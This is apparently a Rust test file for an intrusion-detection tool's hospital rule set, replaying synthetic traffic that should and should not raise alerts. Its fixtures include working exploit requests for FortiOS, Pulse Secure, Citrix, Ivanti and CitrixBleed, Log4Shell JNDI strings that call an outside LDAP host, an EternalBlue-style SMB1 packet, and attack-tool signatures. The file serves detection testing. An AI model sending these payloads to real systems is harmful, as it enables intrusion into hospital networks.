//! The built-in hospital rules (`rules/hospital.rules`): for each rule, traffic
//! that must fire it and a benign look-alike that must not. Traffic is built in
//! the test and replayed through the binary with no config, i.e. with the
//! built-in rules and default variables (HOME_NET = RFC 1918 + RFC 4193).

mod common;

use std::collections::BTreeSet;
use std::process::Command;

use common::*;

/// An address outside HOME_NET (TEST-NET-3) and a hospital server inside it.
fn outside() -> Host {
    Host::v4("203.0.113.50")
}
fn inside() -> Host {
    Host::v4("10.20.0.10")
}
fn inside_client() -> Host {
    Host::v4("10.20.5.77")
}
fn internet_server() -> Host {
    Host::v4("198.51.100.20")
}

/// A TCP conversation: handshake, the client's bytes, the server's reply, close.
fn conversation(client: Host, server: Host, port: u16, request: &[u8], reply: &[u8]) -> Vec<Frame> {
    let mut s = TcpSession::new(client, 41000, server, port, 1000, 2000);
    let mut f = s.handshake();
    f.extend(s.send_segments(Dir::ToServer, request, 1400));
    f.push(s.ack(Dir::ToClient));
    if !reply.is_empty() {
        f.extend(s.send_segments(Dir::ToClient, reply, 1400));
        f.push(s.ack(Dir::ToServer));
    }
    f.extend(s.close());
    f
}

fn http(client: Host, server: Host, request: &str) -> Vec<Frame> {
    conversation(
        client,
        server,
        80,
        request.as_bytes(),
        b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
    )
}

/// Replays the frames with the built-in rules; returns the alerting sids.
fn sids(frames: &[Frame]) -> BTreeSet<u64> {
    let dir = tempfile::tempdir().expect("tmp");
    let pcap = dir.path().join("t.pcap");
    write_pcap(&pcap, 1, frames).expect("write pcap");
    let eve = dir.path().join("eve.json");
    let out = Command::new(env!("CARGO_BIN_EXE_wardwatch"))
        .args(["replay", "--workers", "1", "--eve"])
        .arg(&eve)
        .arg(&pcap)
        .output()
        .expect("run wardwatch");
    assert!(
        out.status.success(),
        "replay failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    read_eve(&eve)
        .iter()
        .filter(|e| e["event_type"] == "alert")
        .filter_map(|e| e["alert"]["signature_id"].as_u64())
        .collect()
}

fn expect(frames: &[Frame], want: &[u64]) {
    let got = sids(frames);
    let want: BTreeSet<u64> = want.iter().copied().collect();
    assert_eq!(got, want);
}

#[test]
fn fortios_path_traversal() {
    expect(
        &http(
            outside(),
            inside(),
            "GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1\r\nHost: vpn.hospital.example\r\n\r\n",
        ),
        &[9000001],
    );
    // The login page of the same appliance is normal.
    expect(
        &http(
            outside(),
            inside(),
            "GET /remote/login?lang=en HTTP/1.1\r\nHost: vpn.hospital.example\r\n\r\n",
        ),
        &[],
    );
}

#[test]
fn fortios_auth_bypass() {
    expect(
        &http(
            outside(),
            inside(),
            "PUT /api/v2/cmdb/system/admin/admin HTTP/1.1\r\nHost: fw\r\nUser-Agent: Report Runner\r\nForwarded: for=\"[127.0.0.1]:8000\";by=\"[127.0.0.1]:9000\";\r\nContent-Length: 0\r\n\r\n",
        ),
        &[9000002],
    );
    expect(
        &http(
            outside(),
            inside(),
            "GET /api/v2/monitor/system/status HTTP/1.1\r\nHost: fw\r\nUser-Agent: Mozilla/5.0\r\nAuthorization: Bearer abc\r\n\r\n",
        ),
        &[],
    );
}

#[test]
fn pulse_secure_file_read() {
    expect(
        &http(
            outside(),
            inside(),
            "GET /dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/ HTTP/1.1\r\nHost: vpn\r\n\r\n",
        ),
        &[9000003],
    );
    expect(
        &http(
            outside(),
            inside(),
            "GET /dana-na/auth/url_default/welcome.cgi HTTP/1.1\r\nHost: vpn\r\n\r\n",
        ),
        &[],
    );
}

#[test]
fn citrix_traversal() {
    expect(
        &http(
            outside(),
            inside(),
            "GET /vpn/../vpns/cfg/smb.conf HTTP/1.1\r\nHost: gw\r\n\r\n",
        ),
        &[9000004],
    );
    expect(
        &http(
            outside(),
            inside(),
            "GET /vpn/index.html HTTP/1.1\r\nHost: gw\r\n\r\n",
        ),
        &[],
    );
}

#[test]
fn log4shell_in_headers_uri_and_body() {
    expect(
        &http(
            outside(),
            inside(),
            "GET / HTTP/1.1\r\nHost: ehr\r\nUser-Agent: ${jndi:ldap://203.0.113.50:1389/a}\r\n\r\n",
        ),
        &[9000010],
    );
    expect(
        &http(
            outside(),
            inside(),
            "GET /search?q=${jndi:ldap://x/a} HTTP/1.1\r\nHost: ehr\r\n\r\n",
        ),
        &[9000011],
    );
    expect(
        &http(
            outside(),
            inside(),
            "GET / HTTP/1.1\r\nHost: ehr\r\nX-Api-Version: ${${lower:j}ndi:${lower:l}dap://x/a}\r\n\r\n",
        ),
        &[9000012],
    );
    expect(
        &http(
            outside(),
            inside(),
            "POST /login HTTP/1.1\r\nHost: ehr\r\nContent-Length: 31\r\n\r\nuser=${jndi:ldap://x/a}&pass=1\r\n",
        ),
        &[9000013],
    );
    // Template syntax that is not a lookup.
    expect(
        &http(
            outside(),
            inside(),
            "GET /app?tpl=${name} HTTP/1.1\r\nHost: ehr\r\nUser-Agent: curl/8.0\r\n\r\n",
        ),
        &[],
    );
}

/// A NetBIOS session message wrapping an SMB1 header with `command`, followed by `rest`.
fn smb1(command: u8, rest: &[u8]) -> Vec<u8> {
    let mut smb = vec![0xff, b'S', b'M', b'B', command];
    smb.extend_from_slice(&[0u8; 27]); // rest of the 32-byte SMB header
    smb.extend_from_slice(rest);
    let mut out = vec![0u8, 0, 0, 0];
    let len = smb.len() as u32;
    out[1..4].copy_from_slice(&len.to_be_bytes()[1..4]);
    out.extend(smb);
    out
}

#[test]
fn smbv1_negotiate_and_eternalblue() {
    let negotiate = smb1(0x72, b"\x00\x0c\x00\x02NT LM 0.12\x00");
    expect(
        &conversation(inside_client(), inside(), 445, &negotiate, b""),
        &[9000020],
    );
    // Trans2 with setup word 0x000e (SESSION_SETUP) at SMB offset 61.
    let mut words = vec![0x0fu8]; // WordCount 15
    words.extend_from_slice(&[0u8; 28]);
    words.extend_from_slice(&[0x0e, 0x00]);
    words.extend_from_slice(&[0u8; 8]);
    let trans2 = smb1(0x32, &words);
    expect(
        &conversation(inside_client(), inside(), 445, &trans2, b""),
        &[9000021],
    );
    // Trans2 FIND_FIRST2 (0x0001) is ordinary SMB1 file listing.
    let mut normal = words.clone();
    normal[29] = 0x01;
    expect(
        &conversation(inside_client(), inside(), 445, &smb1(0x32, &normal), b""),
        &[],
    );
    // SMB2 negotiate is the normal case.
    let mut smb2 = vec![0u8, 0, 0, 68, 0xfe, b'S', b'M', b'B'];
    smb2.extend_from_slice(&[0u8; 64]);
    expect(
        &conversation(inside_client(), inside(), 445, &smb2, b""),
        &[],
    );
}

#[test]
fn rdp_and_smb_from_outside() {
    let mut s = TcpSession::new(outside(), 50000, inside(), 3389, 1, 2);
    expect(&s.handshake(), &[9000030]);
    let mut s = TcpSession::new(outside(), 50001, inside(), 445, 1, 2);
    expect(&s.handshake(), &[9000031]);
    // From inside, RDP is the normal admin path.
    let mut s = TcpSession::new(inside_client(), 50002, inside(), 3389, 1, 2);
    expect(&s.handshake(), &[]);
}

#[test]
fn dicom_and_hl7_from_outside() {
    // A-ASSOCIATE-RQ: type 1, reserved, length, protocol version 1, reserved, AE titles.
    let mut assoc = vec![0x01, 0x00, 0, 0, 0, 68, 0x00, 0x01, 0, 0];
    assoc.extend_from_slice(b"STORESCP        ");
    assoc.extend_from_slice(b"ECHOSCU         ");
    assoc.extend_from_slice(&[0u8; 32]);
    expect(
        &conversation(outside(), inside(), 11112, &assoc, b""),
        &[9000032],
    );
    expect(
        &conversation(inside_client(), inside(), 11112, &assoc, b""),
        &[],
    );
    let hl7 = b"\x0bMSH|^~\\&|LAB|HOSP|EHR|HOSP|202404010930||ORU^R01|123|P|2.5\r\x1c\r";
    expect(
        &conversation(outside(), inside(), 2575, hl7, b""),
        &[9000033],
    );
    expect(
        &conversation(inside_client(), inside(), 2575, hl7, b""),
        &[],
    );
}

#[test]
fn cleartext_credentials_to_the_internet() {
    let login = b"USER nurse\r\nPASS secret\r\n";
    expect(
        &conversation(inside_client(), internet_server(), 21, login, b""),
        &[9000040],
    );
    // A password prompt mentioning PASS is not a PASS command.
    expect(
        &conversation(
            inside_client(),
            internet_server(),
            21,
            b"HELP\r\n",
            b"214 USER PASS QUIT\r\n",
        ),
        &[],
    );
    // Inside the hospital it is not flagged by this rule.
    expect(
        &conversation(inside_client(), inside(), 21, login, b""),
        &[],
    );
    expect(
        &http(
            inside_client(),
            internet_server(),
            "GET / HTTP/1.1\r\nHost: example.org\r\nAuthorization: Basic bnVyc2U6c2VjcmV0\r\n\r\n",
        ),
        &[9000041],
    );
    expect(
        &http(
            inside_client(),
            inside(),
            "GET / HTTP/1.1\r\nHost: intranet\r\nAuthorization: Basic bnVyc2U6c2VjcmV0\r\n\r\n",
        ),
        &[],
    );
}

#[test]
fn attack_tools() {
    for (ua, sid) in [
        (
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            9000050,
        ),
        ("sqlmap/1.7.2#stable (https://sqlmap.org)", 9000051),
        (
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
            9000052,
        ),
        (
            "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
            9000053,
        ),
    ] {
        expect(
            &http(
                outside(),
                inside(),
                &format!("GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: {ua}\r\n\r\n"),
            ),
            &[sid],
        );
    }
    expect(
        &http(
            outside(),
            inside(),
            "GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/125.0\r\n\r\n",
        ),
        &[],
    );
    let banner = b"  .#####.   mimikatz 2.2.0 (x64) #19041\r\n .## ^ ##.  \"A La Vie, A L'Amour\"\r\n ## / \\ ##  /*** Benjamin DELPY `gentilkiwi`\r\n";
    expect(
        &conversation(inside_client(), inside(), 4444, b"whoami\r\n", banner),
        &[9000054],
    );
    expect(
        &conversation(
            inside_client(),
            inside(),
            4444,
            b"whoami\r\n",
            b"nt authority\\system\r\n",
        ),
        &[],
    );
}

#[test]
fn ivanti_and_citrixbleed() {
    expect(
        &http(
            outside(),
            inside(),
            "GET /api/v1/totp/user-backup-code/../../system/maintenance/archiving/cloud-server-test-connection HTTP/1.1\r\nHost: vpn\r\n\r\n",
        ),
        &[9000005],
    );
    expect(
        &http(
            outside(),
            inside(),
            "GET /api/v1/totp/user-backup-code HTTP/1.1\r\nHost: vpn\r\n\r\n",
        ),
        &[],
    );
    let big_host = "a".repeat(24_000);
    expect(
        &http(
            outside(),
            inside(),
            &format!(
                "GET /oauth/idp/.well-known/openid-configuration HTTP/1.1\r\nHost: {big_host}\r\n\r\n"
            ),
        ),
        &[9000006],
    );
    expect(
        &http(
            outside(),
            inside(),
            "GET /oauth/idp/.well-known/openid-configuration HTTP/1.1\r\nHost: gw.hospital.example\r\n\r\n",
        ),
        &[],
    );
}

#[test]
fn telnet_to_the_internet() {
    expect(
        &conversation(
            inside_client(),
            internet_server(),
            23,
            b"admin\r\n",
            b"Password: ",
        ),
        &[9000042],
    );
    expect(
        &conversation(inside_client(), inside(), 23, b"admin\r\n", b"Password: "),
        &[],
    );
}

/// Same capture, same rules: the same alerts with 1 and 4 workers.
#[test]
fn alerts_are_deterministic_across_worker_counts() {
    let requests = [
        "GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1\r\nHost: vpn\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: ehr\r\nUser-Agent: ${jndi:ldap://203.0.113.50:1389/a}\r\n\r\n",
        "GET /vpn/../vpns/cfg/smb.conf HTTP/1.1\r\nHost: gw\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: sqlmap/1.7.2#stable\r\n\r\n",
        "GET /index.html HTTP/1.1\r\nHost: ehr\r\n\r\n",
    ];
    let mut frames = Vec::new();
    for i in 0..40u32 {
        let client = Host::v4(&format!("203.0.113.{}", 10 + i));
        let server = Host::v4(&format!("10.20.0.{}", 1 + i % 9));
        let mut s = TcpSession::new(client, 40000 + i as u16, server, 80, i, 7 * i)
            .starting_at(T0_MICROS + u64::from(i) * 3_000);
        frames.extend(s.handshake());
        frames.push(s.send(
            Dir::ToServer,
            requests[i as usize % requests.len()].as_bytes(),
        ));
        frames.push(s.send(
            Dir::ToClient,
            b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
        ));
        frames.extend(s.close());
    }
    frames.sort_by_key(|f| f.ts_micros);
    let dir = tempfile::tempdir().expect("tmp");
    let pcap = dir.path().join("mix.pcap");
    write_pcap(&pcap, 1, &frames).expect("write");
    let mut runs = Vec::new();
    for workers in ["1", "4"] {
        let eve = dir.path().join(format!("eve{workers}.json"));
        let out = Command::new(env!("CARGO_BIN_EXE_wardwatch"))
            .args(["replay", "--workers", workers, "--eve"])
            .arg(&eve)
            .arg(&pcap)
            .output()
            .expect("run");
        assert!(out.status.success());
        let mut alerts: Vec<String> = read_eve(&eve)
            .iter()
            .filter(|e| e["event_type"] == "alert")
            .map(|e| e.to_string())
            .collect();
        alerts.sort();
        runs.push(alerts);
    }
    // 4 of every 5 conversations attack: 32 alerts.
    assert_eq!(runs[0].len(), 32);
    assert_eq!(runs[0], runs[1]);
}

/// Alerts name the packet that completed the match by its record number in
/// the capture (`pcap_cnt`, as Suricata), so an analyst can find it in Wireshark.
#[test]
fn alerts_carry_the_packet_number() {
    let frames = http(
        outside(),
        inside(),
        "GET /vpn/../vpns/cfg/smb.conf HTTP/1.1\r\nHost: gw\r\n\r\n",
    );
    let dir = tempfile::tempdir().expect("tmp");
    let pcap = dir.path().join("t.pcap");
    write_pcap(&pcap, 1, &frames).expect("write pcap");
    let eve = dir.path().join("eve.json");
    let out = Command::new(env!("CARGO_BIN_EXE_wardwatch"))
        .args(["replay", "--eve"])
        .arg(&eve)
        .arg(&pcap)
        .output()
        .expect("run");
    assert!(out.status.success());
    let events = read_eve(&eve);
    let alert = events_of_type(&events, "alert")
        .into_iter()
        .next()
        .expect("one alert");
    // SYN, SYN-ACK, ACK, then the request: record 4.
    assert_eq!(alert["pcap_cnt"], 4);
    assert_eq!(alert["src_ip"], "203.0.113.50");
    assert_eq!(alert["dest_port"], 80);
    assert_eq!(alert["app_proto"], "http");
    assert_eq!(alert["direction"], "to_server");
    assert_eq!(
        alert["alert"]["category"],
        "Attempted Administrator Privilege Gain"
    );
    assert_eq!(alert["alert"]["severity"], 1);
    // The transaction that matched, as Suricata's alert metadata.
    assert_eq!(alert["http"]["hostname"], "gw");
    assert_eq!(alert["http"]["url"], "/vpn/../vpns/cfg/smb.conf");
    assert_eq!(alert["http"]["http_method"], "GET");
    assert!(alert.get("tls").is_none());
    // And the flow so far: handshake + request from the client, SYN-ACK back.
    assert_eq!(alert["flow"]["pkts_toserver"], 3);
    assert_eq!(alert["flow"]["pkts_toclient"], 1);
    assert_eq!(alert["flow"]["start"], "2024-04-01T09:30:00.000000+00:00");
}

/// A threshold tracked by source counts across flows that land on different
/// workers: one sqlmap client scanning ten servers gets exactly one alert
/// (`threshold: type limit, track by_src, count 1`), with 1 or 4 workers.
#[test]
fn cross_flow_thresholds_do_not_depend_on_the_worker_count() {
    let mut frames = Vec::new();
    for i in 0..10u32 {
        let server = Host::v4(&format!("10.20.{}.{}", i, 10 + i));
        let mut s = TcpSession::new(outside(), 42000 + i as u16, server, 80, i, 3 * i)
            .starting_at(T0_MICROS + u64::from(i) * 50_000);
        frames.extend(s.handshake());
        frames.push(s.send(
            Dir::ToServer,
            b"GET /?id=1%27 HTTP/1.1\r\nHost: x\r\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n\r\n",
        ));
        frames.extend(s.close());
    }
    frames.sort_by_key(|f| f.ts_micros);
    let dir = tempfile::tempdir().expect("tmp");
    let pcap = dir.path().join("scan.pcap");
    write_pcap(&pcap, 1, &frames).expect("write");
    for workers in ["1", "4"] {
        let eve = dir.path().join(format!("eve{workers}.json"));
        let out = Command::new(env!("CARGO_BIN_EXE_wardwatch"))
            .args(["replay", "--workers", workers, "--eve"])
            .arg(&eve)
            .arg(&pcap)
            .output()
            .expect("run");
        assert!(out.status.success());
        let events = read_eve(&eve);
        let alerts = events_of_type(&events, "alert");
        assert_eq!(alerts.len(), 1, "{workers} workers: {alerts:?}");
        // The first server in capture order is the one reported.
        assert_eq!(alerts[0]["dest_ip"], "10.20.0.10", "{workers} workers");
        let stats = events_of_type(&events, "stats");
        let last = stats.last().expect("stats");
        assert_eq!(last["stats"]["detect"]["alert"], 1, "{workers} workers");
        // Only the reported flow's record says alerted: the nine candidates
        // the threshold quieted do not.
        let alerted: Vec<_> = events_of_type(&events, "flow")
            .into_iter()
            .filter(|f| f["flow"]["alerted"] == true)
            .map(|f| f["dest_ip"].clone())
            .collect();
        assert_eq!(alerted, ["10.20.0.10"], "{workers} workers");
    }
}
